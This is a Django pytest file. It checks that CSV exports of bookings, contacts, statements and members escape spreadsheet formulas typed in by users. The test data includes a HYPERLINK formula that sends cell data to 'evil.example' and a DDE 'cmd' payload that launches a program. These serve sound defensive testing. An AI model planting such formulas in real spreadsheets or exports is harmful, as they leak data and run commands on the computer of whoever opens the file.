"""CSV exports: text typed by visitors or members never runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from common.exports import csv_safe, csv_safe_row
from shop.models import Statement, StatementLine
from tests.factories.network import MemberFactory
from tests.factories.workshops import BookingFactory, SessionFactory, WorkshopFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _cells(response) -> list[str]:
    return [cell for row in _rows(response) for cell in row]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_safe_neutralises_formula_prefixes(prefix):
    assert csv_safe(f"{prefix}1+1") == f"'{prefix}1+1"


def test_csv_safe_leaves_plain_values_alone():
    assert csv_safe_row(["Léa", 3, Decimal("-2.50"), None, ""]) == ["Léa", 3, Decimal("-2.50"), None, ""]


def test_participants_csv_neutralises_visitor_fields(member, member_client):
    session = SessionFactory(workshop=WorkshopFactory(member=member))
    BookingFactory(session=session, name=FORMULA, phone="+33 6 11 22 33 44", po_number="@SUM(A1:A9)")
    url = reverse("workshops_portal:participants_csv", kwargs={"public_id": session.public_id})
    cells = _cells(member_client.get(url))
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'+33 6 11 22 33 44" in cells and "'@SUM(A1:A9)" in cells


def test_workshop_contacts_csv_neutralises_visitor_names(staff_client):
    from network import services as network_services

    booking = BookingFactory(name="-2+3+cmd|' /C calc'!A0", consent_contact=True)
    network_services.contact_record(email=booking.email, source="workshops.booking", consent=True)
    cells = _cells(staff_client.get(reverse("workshops_staff:contacts_csv")))
    assert "'-2+3+cmd|' /C calc'!A0" in cells
    assert "-2+3+cmd|' /C calc'!A0" not in cells


def test_statement_csv_neutralises_product_names(member, member_client, staff_client):
    period = (timezone.localdate().replace(day=1) - datetime.timedelta(days=1)).replace(day=1)
    statement = Statement.objects.create(
        member=member, period=period, gross=Decimal("-12.50"), net_due=Decimal("-10.00")
    )
    StatementLine.objects.create(
        statement=statement,
        product_name=FORMULA,
        quantity=-1,
        gross=Decimal("-12.50"),
        vat=Decimal("-2.08"),
        commission=Decimal("-2.50"),
        net_due=Decimal("-10.00"),
    )
    Statement.objects.filter(pk=statement.pk).update(
        status=Statement.Status.CLOSED, number=4242, closed_at=timezone.now()
    )
    month = period.strftime("%Y-%m")
    for client, url in (
        (member_client, reverse("shop_portal:statement_csv", kwargs={"period": month})),
        (staff_client, reverse("shop_staff:statement_csv", kwargs={"member": member.slug, "period": month})),
    ):
        cells = _cells(client.get(url))
        assert "'" + FORMULA in cells and FORMULA not in cells
        assert "-12,50" in cells  # amounts stay numbers, with a decimal comma


def test_member_export_neutralises_member_fields(staff_client):
    MemberFactory(name="@Atelier piégé", phone="+33 4 76 00 00 00")
    cells = _cells(staff_client.get(reverse("network_staff:member_export")))
    assert "'@Atelier piégé" in cells and "@Atelier piégé" not in cells


def test_contact_export_neutralises_contact_fields(staff_client):
    from network.models import Contact

    Contact.objects.create(
        email="lea@example.org",
        name="=1+2",
        phone="+33 6 00 00 00 00",
        marketing_consent=True,
        consent_given_at=timezone.now(),
        consent_source="workshops.booking",
    )
    cells = _cells(staff_client.get(reverse("network_staff:contact_export")))
    assert "'=1+2" in cells and "=1+2" not in cells
